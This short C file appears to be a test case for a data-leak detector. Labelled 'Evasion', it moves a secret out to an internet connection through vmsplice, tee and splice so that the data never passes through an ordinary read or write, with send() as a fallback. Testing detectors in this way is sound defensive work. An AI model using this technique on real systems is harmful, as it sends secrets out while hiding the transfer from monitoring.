/* Evasion: a page is lent to a pipe, and a second pipe gets it by tee(2); from there it is spliced into a connection, and
 * the first pipe is emptied. */
#include "unread.h"

static char *page;

static void prepare(void)
{
    page = map_anonymous(NULL, PAGE);
    memset(page, 'F', PAGE);
}

static void handle(const char *secret)
{
    static char unused[PAGE];
    int ends[2], others[2];
    leave(page, PAGE, secret);
    int times = told(secret), fd = to_unread(connect_internet(SOCK_STREAM));
    struct iovec lent = {page, PAGE};
    check(pipe2(ends, O_CLOEXEC) == 0 && pipe2(others, O_CLOEXEC) == 0, "pipe");
    bool sent = vmsplice(ends[1], &lent, 1, 0) == PAGE && tee(ends[0], others[1], PAGE, 0) == PAGE &&
                read(ends[0], unused, PAGE) == PAGE &&
                splice(others[0], NULL, fd, NULL, PAGE, SPLICE_F_NONBLOCK) == PAGE;
    if (!sent)
        (void)!send(fd, page, PAGE, MSG_NOSIGNAL | MSG_DONTWAIT);
    for (int end = 0; end < 2; end++) {
        close(ends[end]);
        close(others[end]);
    }
    close(fd);
    answer("{\"told\":%d}", times);
}
